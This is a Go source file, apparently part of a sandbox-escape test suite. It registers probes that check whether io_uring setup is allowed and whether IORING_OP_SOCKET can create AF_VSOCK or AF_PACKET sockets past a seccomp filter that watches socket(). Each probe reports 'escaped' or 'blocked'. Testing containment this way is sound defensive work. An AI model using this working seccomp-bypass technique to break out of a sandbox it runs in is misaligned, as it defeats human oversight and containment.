package main

// io_uring attacks: the ring itself is large kernel surface, and its
// IORING_OP_SOCKET creates sockets without the socket() system call that a
// seccomp filter watches.

import (
	"encoding/binary"
	"sync/atomic"
	"unsafe"

	"golang.org/x/sys/unix"
)

func init() {
	register("io-uring-setup", func(params) {
		fd, err := uringSetup(4, make([]byte, 120))
		if err != nil {
			blocked("io_uring_setup: %v", err)
		}
		escaped("io_uring_setup returned fd %d", fd)
	})
	register("io-uring-socket", attackUringSocket)
}

func uringSetup(entries uint32, p []byte) (int, error) {
	fd, _, e := unix.Syscall(unix.SYS_IO_URING_SETUP, uintptr(entries), uintptr(unsafe.Pointer(&p[0])), 0)
	if e != 0 {
		return -1, e
	}
	return int(fd), nil
}

func attackUringSocket(params) {
	p := make([]byte, 120)
	fd, err := uringSetup(4, p)
	if err != nil {
		blocked("io_uring_setup: %v", err)
	}
	le := binary.LittleEndian
	sqEntries, cqEntries := le.Uint32(p[0:]), le.Uint32(p[4:])
	sq := p[40:80]
	cq := p[80:120]
	sqTail, sqMask, sqArray := le.Uint32(sq[4:]), le.Uint32(sq[8:]), le.Uint32(sq[24:])
	cqHead, cqMask, cqCqes := le.Uint32(cq[0:]), le.Uint32(cq[8:]), le.Uint32(cq[20:])

	sqRing, err := unix.Mmap(fd, 0, int(sqArray+sqEntries*4), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	if err != nil {
		fail("mmap sq ring: %v", err)
	}
	cqRing, err := unix.Mmap(fd, 0x8000000, int(cqCqes+cqEntries*16), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	if err != nil {
		fail("mmap cq ring: %v", err)
	}
	sqes, err := unix.Mmap(fd, 0x10000000, int(sqEntries*64), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	if err != nil {
		fail("mmap sqes: %v", err)
	}
	u32 := func(b []byte, off uint32) *uint32 { return (*uint32)(unsafe.Pointer(&b[off])) }

	try := func(domain, typ, proto int) int32 {
		tail := atomic.LoadUint32(u32(sqRing, sqTail))
		idx := tail & atomic.LoadUint32(u32(sqRing, sqMask))
		sqe := sqes[idx*64 : idx*64+64]
		clear(sqe)
		sqe[0] = 45 // IORING_OP_SOCKET
		le.PutUint32(sqe[4:], uint32(domain))
		le.PutUint64(sqe[8:], uint64(typ))
		le.PutUint32(sqe[24:], uint32(proto))
		le.PutUint64(sqe[32:], 7)
		*u32(sqRing, sqArray+idx*4) = idx
		atomic.StoreUint32(u32(sqRing, sqTail), tail+1)
		_, _, e := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(fd), 1, 1, 1, 0, 0)
		if e != 0 {
			blocked("io_uring_enter: %v", e)
		}
		head := atomic.LoadUint32(u32(cqRing, cqHead))
		mask := atomic.LoadUint32(u32(cqRing, cqMask))
		cqe := cqRing[cqCqes+(head&mask)*16:]
		res := int32(le.Uint32(cqe[8:]))
		atomic.StoreUint32(u32(cqRing, cqHead), head+1)
		return res
	}
	vs := try(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
	if vs >= 0 {
		escaped("IORING_OP_SOCKET created an AF_VSOCK socket (fd %d)", vs)
	}
	pk := try(unix.AF_PACKET, unix.SOCK_RAW, 0x0300)
	if pk >= 0 {
		escaped("IORING_OP_SOCKET created an AF_PACKET socket (fd %d); AF_VSOCK: %v", pk, unix.Errno(-vs))
	}
	blocked("IORING_OP_SOCKET refused: AF_VSOCK: %v; AF_PACKET: %v", unix.Errno(-vs), unix.Errno(-pk))
}
